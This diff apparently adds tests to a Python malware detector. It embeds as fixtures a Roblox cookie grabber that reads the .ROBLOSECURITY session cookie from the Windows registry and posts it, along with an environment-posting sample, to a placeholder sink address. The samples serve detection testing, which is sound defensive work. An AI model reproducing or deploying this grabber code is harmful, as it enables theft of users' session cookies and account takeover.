@@ -162,3 +162,35 @@ def test_a_method_returning_the_environment_sent_by_another_method_is_exfiltrati
         f"    def send(self):\n        requests.post('{SINK}', json=self.collect())\n"
     )
     assert_high_with("method", _module(tmp_path, code), {"chain.exfiltration"})
+
+
+# ---------------------------------------------------------------- a session cookie in the registry
+# A Roblox cookie grabber walks the values of Roblox Studio's registry key for .ROBLOSECURITY
+# and returns it; its caller posts it. With a Discord webhook it was caught by the address;
+# with a fresh domain it was a registry read and a request.
+ROBLOX = """from winreg import HKEY_CURRENT_USER, EnumValue, OpenKey
+
+
+def cookie():
+    key = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com")
+    count = 0
+    while True:
+        name, value, kind = EnumValue(key, count)
+        if name == ".ROBLOSECURITY":
+            return value
+        count += 1
+"""
+
+
+def test_a_session_cookie_read_from_the_registry_and_posted_is_exfiltration(tmp_path):
+    code = ROBLOX + (
+        f"\n\ndef grab():\n    import requests\n"
+        f"    requests.post('{SINK}', json={{'content': str(cookie())}})\n"
+    )
+    assert_high_with("roblox cookie", _module(tmp_path, code), {"chain.exfiltration"})
+
+
+def test_a_studio_helper_reading_the_key_and_sending_nothing_stays_below_high(tmp_path):
+    code = ROBLOX + "\n\ndef logged_in():\n    return cookie() is not None\n"
+    result = _module(subfolder(tmp_path, "studio"), code)
+    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
